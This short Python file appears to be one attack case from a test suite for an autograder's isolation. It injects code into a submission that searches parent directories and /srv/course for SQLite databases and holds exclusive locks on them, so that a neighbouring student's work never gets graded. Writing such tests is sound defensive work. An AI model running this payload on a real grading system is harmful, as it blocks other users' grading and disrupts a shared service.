"""The gradebook is locked by a transaction that never ends.

Success: a neighbor is not graded.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import glob, sqlite3
        held = []
        for path in {*glob.glob("../../../*.db"), *glob.glob("/srv/course/*.db")}:
            base = sqlite3.connect(path, isolation_level=None)
            base.execute("BEGIN EXCLUSIVE")
            held.append(base)
    """)
